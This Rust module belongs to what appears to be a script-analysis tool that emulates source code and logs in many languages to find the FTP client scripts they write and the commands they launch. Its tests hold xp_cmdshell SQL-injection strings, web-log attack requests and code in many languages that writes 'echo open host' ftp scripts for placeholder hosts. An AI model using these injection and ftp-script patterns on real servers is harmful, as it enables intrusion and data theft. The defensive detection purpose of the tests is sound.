//! Source code of other languages: what its calls start, and which files it writes.
//!
//! All command lines of one text share one emulation, in text order. What the text does not tell stays as the source has
//! it (`%s`, `{0}`, a variable's name): such a script is a template, and says so.

mod files;
mod processes;
mod program;
mod recognise;
mod sql;

pub use recognise::tongue_of;

use super::emulation::{Emulation, program_name};
use super::{batch, command_lines};
use crate::base::text::Text;
use crate::script::launch::Platform;
use crate::script::source::{self, Tongue, Value, Walker};
use program::Program;

/// Runs a text; false where nothing came of it.
pub fn run_file(emulation: &mut Emulation<'_>, text: &Text, tongue: Tongue) -> bool {
    emulation.platform = platform_of(&text.content, tongue);
    match tongue {
        Tongue::Json => run_values(emulation, &text.content),
        Tongue::Sql => sql::run_file(emulation, text),
        _ => run_source(emulation, tongue, &text.content, None),
    }
    // In a language that is sure, what no call starts is documentation.
    let sure = !matches!(tongue, Tongue::Sql | Tongue::Json | Tongue::C) || text.content.contains("#include");
    sure || !emulation.outcome.launches.is_empty() || !emulation.outcome.sessions.is_empty()
}

/// Runs what `python -c`, `perl -e`, `php -r` or `ruby -e` is given; false where that is nothing that can be run.
pub fn run_program(emulation: &mut Emulation<'_>, words: &[String]) -> bool {
    let Some((program, arguments)) = words.split_first() else { return false };
    let name = program_name(program);
    let (tongue, letters) = match name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
        "python" | "pythonw" | "py" => (Tongue::Python, "c"),
        "perl" => (Tongue::Perl, "eE"),
        "php" => (Tongue::Php, "r"),
        "ruby" => (Tongue::Ruby, "e"),
        _ => return false,
    };
    let is_switch = |word: &&String| {
        word.strip_prefix('-').and_then(|rest| rest.chars().last()).is_some_and(|last| letters.contains(last))
            && !word.contains("::")
    };
    let Some(at) = arguments.iter().position(|word| is_switch(&word)) else { return false };
    let Some(code) = arguments.get(at.saturating_add(1)) else { return false };
    if !emulation.enter() {
        return false;
    }
    let line = emulation.line;
    run_source(emulation, tongue, code, Some(line));
    emulation.leave();
    true
}

/// Runs source code; `line` is where all of it stands, if that is one line of another text.
fn run_source(emulation: &mut Emulation<'_>, tongue: Tongue, content: &str, line: Option<u32>) {
    let program = Program::new(emulation, tongue, line);
    let mut walker = Walker::new(tongue, content, line.unwrap_or(1), program);
    if tongue == Tongue::AutoIt {
        for (name, value) in [
            ("@comspec", "cmd.exe"),
            ("@crlf", "\r\n"),
            ("@cr", "\r"),
            ("@lf", "\n"),
            ("@tab", "\t"),
            ("@tempdir", "%TEMP%"),
            ("@systemdir", "%WINDIR%\\System32"),
            ("@windowsdir", "%WINDIR%"),
        ] {
            walker.define(name, Value::known(value));
        }
    }
    if tongue == Tongue::Delphi {
        walker.define("slinebreak", Value::known("\r\n"));
    }
    let (program, is_whole) = walker.run();
    program.finish();
    if !is_whole {
        emulation
            .leave_out("a program's source was longer than the limit, or took more work, and was not read to its end");
    }
}

/// Runs every value that is a command line, as logs in JSON hold them.
fn run_values(emulation: &mut Emulation<'_>, content: &str) {
    for (line, text) in source::literals(Tongue::Json, content) {
        if !is_command_line(&text) || !emulation.step() {
            continue;
        }
        emulation.line = line;
        run_shell(emulation, &text);
    }
}

/// Runs a command line through the shell of the system that the text is for.
fn run_shell(emulation: &mut Emulation<'_>, text: &str) {
    let unix = emulation.platform == Platform::Unix || text.contains("<<");
    if unix {
        let words = ["sh", "-c", text].map(str::to_owned);
        if super::shell::run_program(emulation, &words) {
            return;
        }
    }
    let line = emulation.line;
    let lines = text.lines().map(|part| (line, part)).collect();
    batch::Interpreter::new(emulation, lines).run_command_lines();
}

/// Whether a text is a command line that writes a script or starts a client.
pub(super) fn is_command_line(text: &str) -> bool {
    let text = text.trim_start();
    let path = text.strip_prefix('"').and_then(|rest| rest.split_once('"')).map(|(path, _)| path);
    let path = path.or_else(|| text.split([' ', '\t']).next()).unwrap_or_default();
    let name = program_name(path);
    let known = [
        "ftp",
        "cmd",
        "powershell",
        "pwsh",
        "curl",
        "wget",
        "winscp",
        "certutil",
        "schtasks",
        "lftp",
        "ncftpget",
        "ncftpput",
    ];
    path.len() < text.len() && known.contains(&name.as_str()) || command_lines::begins_with_command(text)
}

/// The system that the paths in a text are of; Windows where nothing tells.
fn platform_of(content: &str, tongue: Tongue) -> Platform {
    if matches!(tongue, Tongue::CSharp | Tongue::Delphi | Tongue::AutoIt | Tongue::Sql | Tongue::Json) {
        return Platform::Windows;
    }
    let count = |words: &[&str]| words.iter().map(|word| content.matches(word).take(50).count()).sum::<usize>();
    let unix = count(&["/bin/", "/tmp/", "/usr/", "/home/", "/etc/", "/var/", "/root/", "<<"]);
    let windows = count(&["C:\\", "c:\\", "C:/", ".exe", "cmd ", "%TEMP%", "windows.h", "-s:"]);
    let shebang = content.starts_with("#!/");
    if windows == 0 && (shebang || unix > 0) || unix > windows.saturating_mul(2) {
        Platform::Unix
    } else {
        Platform::Windows
    }
}

#[cfg(test)]
mod tests {
    use crate::base::limits::Limits;
    use crate::base::text::Text;
    use crate::script::read;
    use crate::script::reading::{Feed, TextReading};
    use crate::script::writer::emulation::Alone;
    use crate::script::writer::outcome::Origin;

    fn reading(name: &str, text: &str) -> TextReading {
        let origin = Origin { directory: Some("C:\\w"), name };
        read::read(&Text::from_content(text), origin, &Alone, &Limits::default())
            .unwrap_or_else(|| panic!("says nothing: {text}"))
    }

    /// The scripts that a text feeds to clients, with line ends as bars.
    fn fed(name: &str, text: &str) -> Vec<String> {
        let reading = reading(name, text);
        let scripts = reading.launches.iter().filter_map(|(_, feed)| match feed {
            Feed::Written(index) => reading.written.get(*index),
            _ => None,
        });
        scripts.map(|written| written.text.content.replace("\r\n", "|").replace('\n', "|")).collect()
    }

    fn launches(name: &str, text: &str) -> Vec<String> {
        reading(name, text).launches.iter().map(|(launch, _)| launch.command_line.clone()).collect()
    }

    #[test]
    fn sql_shares_one_disk_over_its_calls() {
        let cases = [
            (
                "a.sql",
                "exec master..xp_cmdshell 'echo open 192.0.2.46 >d:\\f.txt';exec master..xp_cmdshell 'echo bob>>d:\\f.txt';\
                 exec master..xp_cmdshell 'ftp -s:d:\\f.txt'",
                "open 192.0.2.46 |bob|",
            ),
            (
                "a.sql",
                "DECLARE @c varchar(8000), @h varchar(20)\nSET @h = N'192.0.2.47'\nSET @c = 'echo open ' + @h + '>f'\n\
                 EXEC xp_cmdshell @c, no_output\nSELECT @c = 'echo it''s>>f'\nEXEC master.dbo.xp_cmdshell @c\nGO\n\
                 IF 1=1 EXEC [master]..[xp_cmdshell] 'ftp -n -s:f'",
                "open 192.0.2.47|it's|",
            ),
            (
                "web.log",
                "10:00 GET /a.asp?id=1;exec+master..xp_cmdshell+'echo+open+192.0.2.48>f'-- 200\n\
                 10:01 GET /a.asp?id=1%27;EXEC%20master..xp_cmdshell%20%27echo%20bob%3E%3Ef%27;-- 200\n\
                 10:02 GET /a.asp id=1;exec+master..xp_cmdshell+'ftp+-s:f'-- 200",
                "open 192.0.2.48|bob|",
            ),
            (
                "a.sql",
                "declare @o int exec sp_oacreate 'wscript.shell', @o out\n\
                 exec sp_oamethod @o, 'run', null, 'cmd /c echo open 192.0.2.49>f&ftp -s:f'",
                "open 192.0.2.49|",
            ),
            (
                "a.sql",
                "DECLARE @s INT, @f INT EXEC sp_OACreate 'Scripting.FileSystemObject', @s OUT\n\
                 EXEC sp_OAMethod @s, 'CreateTextFile', @f OUT, 'c:\\x', 1\n\
                 EXEC sp_OAMethod @f, 'WriteLine', NULL, 'open 192.0.2.50'\nEXEC xp_cmdshell 'ftp -s:c:\\x'",
                "open 192.0.2.50|",
            ),
            (
                "job.sql",
                "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @step_id=1, @subsystem=N'CmdExec',\n\
                 @command=N'echo open 192.0.2.51>f & ftp -n -s:f'",
                "open 192.0.2.51 |",
            ),
        ];
        for (name, text, script) in cases {
            assert_eq!(fed(name, text), [script], "{text}");
        }
        assert_eq!(
            launches("a.sql", "\tEXEC master..xp_cmdshell 'ftp -w:12288 -s:C:\\D\\g.ftp', NO_OUTPUT"),
            ["ftp -w:12288 -s:C:\\D\\g.ftp"]
        );
    }

    #[test]
    fn functions_of_other_modules_that_run_commands_start_clients() {
        let cases: &[(&str, &str, &[&str])] = &[
            (
                "a.py",
                "import own\nc = 'c:/w/ftp.exe -i -s:' + 'a.txt'\nown.runCommand(c)",
                &["c:/w/ftp.exe -i -s:a.txt"],
            ),
            ("a.py", "from own import run_cmd\nrun_cmd('ftp -n -s:a.txt')", &["ftp -n -s:a.txt"]),
            ("a.cs", "using S;\nTools.ExecuteCommand(\"ftp -n -s:a.txt\");", &["ftp -n -s:a.txt"]),
            ("a.py", "def run_cmd(c):\n    os.system(c)\nrun_cmd('ftp -n -s:a.txt')", &["ftp -n -s:a.txt"]),
            ("a.py", "import os\nlog.show('ftp -n -s:a.txt')\nos.system('ftp -s:b.txt')", &["ftp -s:b.txt"]),
        ];
        for (name, text, expected) in cases {
            assert_eq!(launches(name, text), *expected, "{text}");
        }
    }

    #[test]
    fn programs_write_their_scripts_line_by_line() {
        let cases = [
            (
                "a.c",
                "#include <stdio.h>\n#define HOST \"192.0.2.60\"\nint main(void){ FILE *fp = fopen(\"a.txt\", \"w\");\n\
                 fprintf(fp, \"open %s\\n\", HOST); fputs(\"user bob pw\\n\", fp); fclose(fp); system(\"ftp -n -s:a.txt\"); }",
                "open 192.0.2.60|user bob pw|",
            ),
            (
                "notes.txt",
                "fprintf(fp,\"open 192.0.2.47 2121\\nuser bob pw\\nput %s\\nquit\",fn);system(\"ftp -n -s:c.txt\");",
                "open 192.0.2.47 2121|user bob pw|put %s|quit",
            ),
            (
                "a.cpp",
                "std::ofstream out(\"a.txt\"); std::string h(\"192.0.2.61\");\nout << \"open \" << h << std::endl << \"bob\\n\";\n\
                 out.close(); WinExec(\"ftp.exe -s:a.txt\", SW_HIDE);",
                "open 192.0.2.61|bob|",
            ),
            (
                "a.c",
                "char cmd[256]; sprintf(cmd, \"echo open %s>f\", \"192.0.2.62\"); system(cmd);\n\
                 strcpy(cmd, \"ftp -n\"); strcat(cmd, \" -s:f\"); system(cmd);",
                "open 192.0.2.62|",
            ),
            (
                "a.c",
                "system(\"echo open 192.0.2.63\"\n \" 21>f\");\nShellExecuteA(NULL, \"open\", \"ftp.exe\", \"-s:f\", NULL, SW_HIDE);",
                "open 192.0.2.63 21|",
            ),
            (
                "A.java",
                "public class A { static void run(String c) throws Exception { Runtime.getRuntime().exec(c); }\n\
                 public static void main(String[] a) throws Exception { PrintWriter w = new PrintWriter(new FileWriter(\"f.txt\"));\n\
                 w.println(\"open 192.0.2.64\"); w.close(); run(\"ftp -s:f.txt\"); } }",
                "open 192.0.2.64|",
            ),
            (
                "A.java",
                "Files.write(p, x); FileWriter w = new FileWriter(\"f\"); w.write(String.format(\"open %s\\n\", \"192.0.2.65\"));\n\
                 new ProcessBuilder(\"ftp\", \"-n\", \"-s:f\").start();",
                "open 192.0.2.65|",
            ),
            (
                "a.cs",
                "using System;\nvar h = \"192.0.2.66\"; File.WriteAllText(@\"C:\\t\\f.txt\", $\"open {h}\\r\\n\");\n\
                 var p = new ProcessStartInfo { FileName = \"ftp.exe\", Arguments = @\"-s:C:\\t\\f.txt\" }; Process.Start(p);",
                "open 192.0.2.66|",
            ),
            (
                "a.py",
                "import os\nhost = '192.0.2.67'\nwith open('f', 'w') as f:\n    f.write('open %s\\n' % host)\n    \
                 f.write(f'user {\"bob\"} pw\\n')\nos.system('ftp -n -s:f')",
                "open 192.0.2.67|user bob pw|",
            ),
            (
                "a.py",
                "import subprocess\np = subprocess.Popen(['ftp', '-n', '192.0.2.68'], stdin=subprocess.PIPE)\n\
                 p.stdin.write('user bob pw\\n')\np.communicate('get a\\n')",
                "user bob pw|get a|",
            ),
            (
                "a.py",
                "import os\nfor l in ['open 192.0.2.69', 'bob', 'pw']:\n    os.system('echo ' + l + '>>f')\nos.system('ftp -s:f')",
                "open 192.0.2.69|bob|pw|",
            ),
            (
                "a.pl",
                "use strict;\nmy $h = '192.0.2.70';\nopen(F, \">c:/f.txt\") or die;\nprint F \"open $h\\n\";\nprint F 'bob', \"\\n\";\n\
                 close(F);\nsystem(\"ftp -s:c:/f.txt\");",
                "open 192.0.2.70|bob|",
            ),
            (
                "a.pl",
                "use strict;\nopen(my $fh, '>', 'f');\nprint $fh <<EOT;\nopen 192.0.2.71\nbob\nEOT\nclose $fh;\n`ftp -s:f`;",
                "open 192.0.2.71|bob|",
            ),
            (
                "a.php",
                "<?php\n$h = '192.0.2.72';\n$f = fopen('f', 'w');\nfwrite($f, \"open $h\\r\\n\");\nfclose($f);\nexec(\"ftp -n -s:f\");",
                "open 192.0.2.72|",
            ),
            (
                "a.php",
                "<?php file_put_contents('f', \"open 192.0.2.73\\n\"); file_put_contents('f', 'bob', FILE_APPEND); shell_exec('ftp -s:f');",
                "open 192.0.2.73|bob",
            ),
            (
                "a.rb",
                "File.open('f', 'w') do |f|\n  f.puts 'open 192.0.2.74'\n  f.puts \"bob\"\nend\nsystem 'ftp -s:f'",
                "open 192.0.2.74|bob|",
            ),
            (
                "a.go",
                "package main\nfunc main() { f, _ := os.Create(\"f\"); fmt.Fprintf(f, \"open %s\\n\", \"192.0.2.75\"); f.WriteString(\"bob\\n\")\n\
                 exec.Command(\"ftp\", \"-s:f\").Run() }",
                "open 192.0.2.75|bob|",
            ),
            (
                "a.pas",
                "begin AssignFile(F, 'c:\\f.txt'); Rewrite(F); Writeln(F, 'open 192.0.2.76'); WriteLn(F, 'it''s'#13#10'x');\n\
                 CloseFile(F); ShellExecute(0, 'open', 'ftp.exe', '-s:c:\\f.txt', nil, 0); end.",
                "open 192.0.2.76|it's|x|",
            ),
            (
                "a.au3",
                "$h = \"192.0.2.77\"\nFileWriteLine(\"f\", \"open \" & $h)\nFileWriteLine(\"f\", \"bob\")\nRunWait(@ComSpec & \" /c ftp -s:f\")",
                "open 192.0.2.77|bob|",
            ),
            (
                "a.js",
                "const fs = require('fs'); fs.writeFileSync('f', `open ${'192.0.2.78'}\\n`);\n\
                 require('child_process').execSync('ftp -s:f');",
                "open 192.0.2.78|",
            ),
            (
                "a.rs",
                "fn main() { fs::write(\"f\", \"open 192.0.2.79\\n\"); Command::new(\"ftp\").arg(\"-n\").args([\"-s:f\"]).spawn(); }",
                "open 192.0.2.79|",
            ),
            (
                "log.json",
                "{\"a\": \"C:\\\\Windows\\\\System32\\\\cmd.exe /c echo open 192.0.2.80\\u003Ef\"}\n{\"a\": \"ftp -s:f\"}",
                "open 192.0.2.80|",
            ),
        ];
        for (name, text, script) in cases {
            assert_eq!(fed(name, text), [script], "{text}");
        }
    }

    #[test]
    fn templates_say_so() {
        let reading = reading(
            "a.c",
            "void f(char *h){ char c[99]; sprintf(c, \"echo open %s 21>f\", h); system(c); system(\"ftp -s:f\"); }",
        );
        assert_eq!(reading.written[0].text.content, "open %s 21\r\n");
        assert_eq!(reading.written[0].unresolved, ["%s"]);
        assert!(reading.diagnostics.iter().any(|diagnostic| diagnostic.code == "template"));
    }

    #[test]
    fn code_on_a_command_line_is_run() {
        let text = "python -c \"import os;os.system('ftp -n -s:a.txt')\"";
        assert_eq!(launches("notes.txt", text), ["ftp -n -s:a.txt"]);
    }

    #[test]
    fn ordinary_code_says_nothing() {
        let cases = [
            ("a.c", "printf(\"usage: ftp host\\n\"); fprintf(stderr, \"open %s failed\\n\", f); /* ftp -s:x */"),
            (
                "a.py",
                "import ftplib\n\"\"\"Example: ftp -n -s:x\n\"\"\"\ndef f(host):\n    ftp = ftplib.FTP(host)\n    ftp.login()\n",
            ),
            ("a.json", "{\"scripts\": {\"deploy\": \"node sftp.js\"}, \"ftp\": \"yes\"}"),
            ("a.rs", "//! let c = Command::new(\"ftp\").spawn();\nfn f<'a>(x: &'a str) {}"),
        ];
        for (name, text) in cases {
            let origin = Origin { directory: None, name };
            assert_eq!(read::read(&Text::from_content(text), origin, &Alone, &Limits::default()), None, "{text}");
        }
    }

    #[test]
    fn deep_and_long_texts_end() {
        let cases = [
            ("a.c", format!("ftp({}", "(".repeat(100_000))),
            ("a.py", format!("ftp={}", "[".repeat(100_000))),
            ("a.pl", format!("$ftp = \"{}\";", "${a".repeat(50_000))),
            ("a.py", format!("ftp = 'x'\n{}", "ftp = ftp + ftp\n".repeat(2000))),
            ("a.js", format!("ftp({}", "function f(){ f(); f(); ".repeat(2000))),
            ("a.py", format!("ftp {}", "for a in b: ".repeat(40_000))),
            ("a.py", format!("ftp {}", "for a in b ".repeat(40_000))),
            ("a.php", format!("<?php ftp {}", "function f() { ".repeat(40_000))),
            ("a.c", format!("ftp {}", "f(a) { ".repeat(40_000))),
            ("a.py", format!("ftp = []\n{}", "ftp.append('a')\n".repeat(20_000))),
            ("a.sql", format!("exec xp_cmdshell 'ftp {}", "'+'".repeat(50_000))),
        ];
        for (name, text) in cases {
            let origin = Origin { directory: None, name };
            let _ = read::read(&Text::from_content(text), origin, &Alone, &Limits::default());
        }
    }
}
